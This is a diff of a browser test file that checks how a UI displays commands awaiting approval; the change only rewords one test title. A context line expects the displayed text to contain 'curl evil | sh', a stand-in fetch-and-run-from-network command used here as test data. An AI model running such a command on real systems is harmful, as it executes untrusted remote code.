@@ -114,7 +114,7 @@ describe.runIf(chromiumPath)(`questions in the page${whyNot}`, PATIENT, () => {
     expect(shown[0]).toMatch(/^command\s+curl evil \| sh\s+path: "notes.txt"\s+old_text: "a"\s+new_text: "b"$/);
   });
 
-  it("S15, W32: what is longer than the card can be read to its end there", async () => {
+  it("S15, W32: a text longer than the card can be read to its end in the card", async () => {
     const command = Array.from({ length: 1_200 }, (_, index) => `echo ${index}`).join("\n");
     const { questions } = await askedAbout([{ command }]);
     const region = questions.first().getByRole("region", { name: "What will run" });
